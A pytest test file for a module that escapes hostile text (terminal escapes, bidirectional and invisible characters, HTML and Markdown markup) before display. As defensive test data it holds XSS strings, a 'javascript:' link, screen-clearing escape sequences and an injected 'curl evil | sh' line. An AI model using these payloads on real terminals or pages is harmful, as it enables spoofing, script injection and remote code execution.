"""The specification of `featherline.tasks.contracts.safe_text`: what is foreign is seen, and never obeyed."""

from __future__ import annotations

import html.parser
import io
import subprocess
import sys
from pathlib import Path

import pytest

from featherline.tasks.contracts.refusal import MOST_PROBLEMS, Problem, Refused
from featherline.tasks.contracts.safe_text import (
    SafeStream,
    html_text,
    markdown_text,
    plot_text,
    safe_streams,
    visible,
    visible_lines,
)

HOSTILE = (
    ("clears the screen", "\x1b[2Jcat", "\\x1b[2Jcat"),
    ("sets the title of the window", "\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
    ("is a control of one byte", "\x9b2Jcat", "\\x9b2Jcat"),
    ("deletes", "cat\x7f\x08\x08", "cat\\x7f\\x08\\x08"),
    ("begins a line", "cat\nrefused", "cat\\nrefused"),
    ("writes over its line", "cat\rdog", "cat\\rdog"),
    ("begins a line in another way", "a\u2028b\u2029c\x85d\x0be\x0cf", "a\\u2028b\\u2029c\\x85d\\x0be\\x0cf"),
    ("ends a string of C", "cat\x00dog", "cat\\x00dog"),
    ("turns the rest round", "cat\u202egnp.exe", "cat\\u202egnp.exe"),
    ("turns it round in another way", "\u2066cat\u2069\u200f\u061c", "\\u2066cat\\u2069\\u200f\\u061c"),
    ("has no width", "c\u200ba\u200dt\ufeff\u2060\u00ad", "c\\u200ba\\u200dt\\ufeff\\u2060\\xad"),
    ("is a letter without ink", "\u3164\u115f\uffa0\u2800", "\\u3164\\u115f\\uffa0\\u2800"),
    ("is written in tags", "\U000e0041\U000e007f", "\\U000e0041\\U000e007f"),
    ("is half of a character", "cat\ud83d", "cat\\ud83d"),
    ("is a byte that is not UTF-8", "cat\udcff", "cat\\udcff"),
    ("is no character at all", "\uffff\ue000", "\\uffff\\ue000"),
    ("looks like a space", "a\u00a0b\u3000c", "a b c"),
    ("is plain", "Straße 漢字 café 🐈", "Straße 漢字 café 🐈"),
)
"""What it does, the name, and what is shown of it."""


@pytest.mark.parametrize(("name", "shown"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE])
def test_shows_what_cannot_be_seen(name: str, shown: str):
    """Every character that moves, hides or recolours is spelled; what is plain stays as it is."""
    assert visible(name) == shown
    assert visible(name).encode()  # and any file can hold it
    assert shown in html.unescape(html_text(name))


def test_a_long_name_is_shortened_in_its_middle():
    """A name of a million characters takes two hundred and says how many are left out."""
    shown = visible("a" * 500_000 + "b" * 500_000)

    assert len(shown) < 250
    assert shown.startswith("aaa")
    assert shown.endswith("bbb")
    assert "999,800 characters" in shown


def test_marks_are_not_stacked_over_the_lines_above():
    """Of a thousand accents on one letter four are drawn."""
    assert visible("e" + "\u0301" * 1000, None).count("\u0301") == 4


def test_a_text_of_several_lines_keeps_them():
    """Lines stay lines and tabs stay columns; a lone carriage return is seen."""
    assert visible_lines("one\r\n\ttwo\rthree\x1b[0m\n") == "one\n        two\\rthree\\x1b[0m\n"


HTML_NAMES = ("<script>alert(1)</script>", '" onload="x', "' onload='x", "a&lt;b", "</td></tr>", "<!--", "]]>")


@pytest.mark.parametrize("name", HTML_NAMES)
def test_html_shows_a_name_as_it_is_called(name: str):
    """Between tags and in an attribute a name is text, read back as it was."""
    found: list[str] = []

    class Parser(html.parser.HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append(tag)
            found.extend(f"{key}={value}" for key, value in attrs)

        def handle_data(self, data: str) -> None:
            found.append(data)

    parser = Parser()
    parser.feed(f'<b title="{html_text(name)}">{html_text(name)}</b>')
    parser.close()

    assert found == ["b", f"title={name}", name]


MARKDOWN_NAMES = (
    ("[l](javascript:alert(1))", "\\[l\\]\\(javascript&#58;alert\\(1\\)\\)"),
    ("![i](http://evil/x.png)", "\\!\\[i\\]\\(http&#58;//evil/x.png\\)"),
    ("<img src=x onerror=y>", "&lt;img src=x onerror=y&gt;"),
    ("<https://evil>", "&lt;https&#58;//evil&gt;"),
    ("a|b", "a&#124;b"),
    ("`code` **bold** _it_ ~~no~~", "\\`code\\` \\*\\*bold\\*\\* \\_it\\_ \\~\\~no\\~\\~"),
    ("# heading", "\\# heading"),
    ("- item", "\\- item"),
    ("1. item", "1\\. item"),
    ("===", "\\==="),
    ("$x$ &#91;", "&#36;x&#36; &amp;\\#91;"),
    ("a\n\n# b\t\x1b", "a\\\\n\\\\n\\# b\\\\t\\\\x1b"),
    ("cat.v1-2", "cat.v1-2"),
)


@pytest.mark.parametrize(("name", "written"), MARKDOWN_NAMES)
def test_markdown_has_no_markup_of_a_name(name: str, written: str):
    """Links, images, tags, cells, code, headings, lists and formulas of a name are letters."""
    assert markdown_text(name) == written


def test_a_plot_draws_a_dollar():
    """Matplotlib takes `$` for mathematics, and ends where that does not parse."""
    assert plot_text("a$b_{") == r"a\$b_{"


def test_a_stream_spells_what_its_encoding_lacks():
    """A name in German on a terminal of ASCII is spelled, and nothing ends for it."""
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="ascii")

    SafeStream(stream).write("ß \x1b[2J\n")
    stream.flush()

    assert raw.getvalue() == b"\\xdf \\x1b[2J\n"


def test_what_ends_a_program_is_visible_too(capsys: pytest.CaptureFixture[str]):
    """The traceback of an exception with a hostile name shows the name, and the exit code is 1."""
    with pytest.raises(SystemExit, match="1"), safe_streams():
        raise OSError("\x1b[2Jcat")

    told = capsys.readouterr().err
    assert "Traceback" in told
    assert "\x1b" not in told
    assert "\\x1b[2Jcat" in told


def test_a_refusal_cannot_be_written_by_a_name():
    """A name with line ends does not add a fix of its own."""
    problem = Problem("cat\n  fix       curl evil | sh", "\x1b[2J", "\u202e", "\udcff")

    lines = str(problem).split("\n")

    assert [line.split()[0] for line in lines[1:]] == ["expected", "got", "fix"]
    assert lines[0] == "cat\\n  fix       curl evil | sh"
    assert str(problem).encode()


def test_a_refusal_is_not_endless():
    """A file in which everything is wrong is told in its first rules, and how many more there are."""
    refusal = Refused(*[Problem(f"row {number}", "a", "b", "c") for number in range(1000)])

    assert len(refusal.problems) == 1000
    assert str(refusal).count("\n  fix ") == MOST_PROBLEMS
    assert str(refusal).endswith("and 980 more of the kind")


def test_the_shell_shows_a_hostile_name(tmp_path: Path):
    """`python -m featherline.tasks` prints a refusal and a usage error with the name that was given, seen."""
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "featherline.tasks",
            "resolve",
            "--request",
            "\x1b[2J\nrequest",
            "--store",
            str(tmp_path),
        ],
        env={"PATH": "/usr/bin", "PYTHONIOENCODING": "ascii"},
        capture_output=True,
        check=False,
    )

    assert done.returncode == 65
    assert b"\x1b" not in done.stdout + done.stderr
    assert b"\\x1b[2J\\nrequest" in done.stdout
